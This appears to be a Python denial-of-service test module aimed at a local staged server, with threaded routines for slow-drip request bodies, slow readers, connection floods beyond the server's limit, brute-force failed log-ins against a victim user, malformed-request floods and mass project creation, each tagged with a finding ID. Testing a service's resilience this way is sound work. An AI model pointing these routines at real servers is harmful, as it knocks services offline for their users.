"""Attacks that are not made of what a request says, but of how many there are, and of how slowly they are sent and read."""

import itertools
import resource
import socket
import threading
import time
from typing import Callable, Iterator, List

from attacks import MEBI, Attacker
from stage import VICTIM

PATIENCE = 30.0

# More than http.connections.
CONNECTIONS = 4_200


def connect(port: int, receive: int = 0) -> socket.socket:
    """
    A connection to the server.

    :param receive: bytes that the machine takes before somebody reads them; 0 for as many as it likes
    """
    connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if receive:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
    connection.settimeout(PATIENCE)
    connection.connect(("127.0.0.1", port))
    return connection


def again_and_again(once: Callable[[], None]) -> None:
    """For ever: what the server breaks off is begun anew after a moment."""
    while True:
        try:
            once()
        except OSError:
            time.sleep(0.05)


def together(count: int, each: Callable[[int], None]) -> None:
    """Runs it that many times at the same time, for ever."""
    threads = [threading.Thread(target=again_and_again, args=(lambda n=n: each(n),), daemon=True) for n in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def announced(by: Attacker) -> bytes:
    """The head of a request whose body will be the largest that there may be."""
    return by.request("files/update", b"").replace(b"Content-Length: 0", b"Content-Length: %d" % (64 * MEBI))


def drip(port: int, by: Attacker) -> None:
    """H4: eight bodies of 64 MiB are announced, and a byte is sent now and then."""

    def each(_: int) -> None:
        with connect(port) as connection:
            connection.sendall(announced(by))
            while True:
                connection.sendall(b" ")
                time.sleep(2)

    together(8, each)


def fill_and_drip(port: int, by: Attacker) -> None:
    """H4: the same, but as much is sent at first as one user's share allows, and then just fast enough; half of them as nobody."""

    def each(number: int) -> None:
        sender = by if number % 2 else Attacker(by.user, "a wrong token", by.project)
        with connect(port) as connection:
            connection.sendall(announced(sender) + b" " * (15 * MEBI))
            while True:
                connection.sendall(b" " * 1500)
                time.sleep(1)

    together(8, each)


def read_slowly(port: int, request: bytes) -> None:
    with connect(port, 4096) as connection:
        connection.sendall(request.replace(b"Connection: close\r\n", b""))
        while connection.recv(512):
            time.sleep(0.25)


def slow_readers(port: int, by: Attacker) -> None:
    """C6: a hundred readers of a project of 46 MB, none of whom reads what they asked for."""
    together(100, lambda _: read_slowly(port, by.call("files/read", projectId=by.project)))


def slow_readers_of_the_list(port: int, by: Attacker) -> None:
    """M1: forty-eight slow readers of a full list, asked for by an empty number, and fourteen of the large project."""

    def each(number: int) -> None:
        operation, project = ("projects/read", "") if number < 48 else ("files/read", str(by.project))
        read_slowly(port, by.call(operation, projectId=project))

    together(62, each)


def slow_readers_of_a_page(port: int, _: Attacker) -> None:
    """M1: twelve hundred slow readers of the largest page, which anybody may read."""
    request = b"GET /docs/swagger-ui.js HTTP/1.1\r\nHost: localhost\r\n\r\n"
    together(1_200, lambda _: read_slowly(port, request))


def refused_bodies(port: int, by: Attacker) -> None:
    """H4: bodies of those whom nobody knows, as large as they may be and as fast as they go."""
    stranger = Attacker(by.user, "a wrong token", by.project)
    piece = b" " * MEBI

    def each(_: int) -> None:
        with connect(port) as connection:
            connection.sendall(announced(stranger))
            for _ in range(64):
                connection.sendall(piece)

    together(16, each)


def full_lists(port: int, by: Attacker) -> None:
    """C1: eight full lists of all projects of somebody who has very many, again and again."""
    together(8, lambda _: read_all(port, by.call("projects/read")))


def read_all(port: int, request: bytes) -> None:
    with connect(port) as connection:
        connection.sendall(request)
        while connection.recv(1 << 16):
            pass


def many_connections(port: int, _: Attacker) -> None:
    """M5: more connections from one address than the server has in all, which say nothing, or half a line."""
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))

    def each(_: int) -> None:
        held: List[socket.socket] = []
        try:
            while True:
                while len(held) < CONNECTIONS // 20:
                    held.append(connect(port))
                    if len(held) % 2:
                        held[-1].sendall(b"GET /api/v2/authenticate HTTP/1.1\r\nX-")
                time.sleep(1)
                held = [connection for connection in held if not is_closed(connection)]
        finally:
            for connection in held:
                connection.close()

    together(20, each)


def is_closed(connection: socket.socket) -> bool:
    try:
        connection.setblocking(False)
        if connection.recv(1024):
            return False
    except BlockingIOError:
        return False
    except OSError:
        pass
    connection.close()
    return True


def as_fast_as_it_goes(port: int, requests: Iterator[bytes]) -> None:
    """Sends one request after the other on a connection that is kept, and reads each answer."""
    with connect(port) as connection:
        answers = connection.makefile("rb")
        for request in requests:
            connection.sendall(request.replace(b"Connection: close\r\n", b""))
            length, line = 0, b"status"
            while line.strip():
                line = answers.readline()
                if not line:
                    return
                if line.lower().startswith(b"content-length:"):
                    length = int(line.split(b":")[1])
            answers.read(length)


def refused_log_ins(port: int, by: Attacker) -> None:
    """M6: log-ins with wrong tokens, as the victim, as users whom there are, and as ones whom there are not."""

    def each(lane: int) -> None:
        def requests() -> Iterator[bytes]:
            for turn in itertools.count():
                for user in (VICTIM, by.user, 1_000 + 16 * turn + lane):
                    yield Attacker(user, "a wrong token", 0).call("authenticate")

        as_fast_as_it_goes(port, requests())

    together(16, each)


def small_requests(port: int, by: Attacker) -> None:
    """M8: reads and pushes on 32 connections, as fast as they are answered."""

    def each(lane: int) -> None:
        def requests() -> Iterator[bytes]:
            for turn in itertools.count():
                yield by.call("projects/read", projectId=by.project)
                yield by.call("files/update", projectId=by.project, name="main.py", content=f"x = {lane}.{turn}\n")

        as_fast_as_it_goes(port, requests())

    together(32, each)


def no_http(port: int, _: Attacker) -> None:
    """M9: what cannot be parsed, each on a connection of its own: it costs its sender no token, and nobody else anything."""
    lines = ["GET / HTTP/9.9", "GET /%00 HTTP/1.1", "GET / HTTP/1.1\r\nHost: a, b", "GET / HTTP/1.1\r\nHost: a", "\0"]

    def each(lane: int) -> None:
        for turn in itertools.count(lane):
            with connect(port) as connection:
                connection.sendall(lines[turn % len(lines)].encode() + b"\r\nHost: b\r\n\r\n")
                connection.shutdown(socket.SHUT_WR)
                while connection.recv(MEBI):
                    pass

    together(8, each)


def many_projects(port: int, by: Attacker) -> None:
    """M8: new projects on 32 connections, as fast as they are answered."""
    names = itertools.count()

    def each(_: int) -> None:
        as_fast_as_it_goes(port, (by.call("projects/create", name=f"N{next(names)}", language="Py") for _ in itertools.count()))

    together(32, each)


def stale_pushes(port: int, by: Attacker) -> None:
    """C2: four agents that missed ten thousand revisions push, and never read."""

    def each(lane: int) -> None:
        push = dict(projectId=by.project, name="main.py", content="x = 2\n", codeSourceId=f"agent {lane}")
        as_fast_as_it_goes(port, (by.call("files/update", **push) for _ in itertools.count()))

    together(4, each)
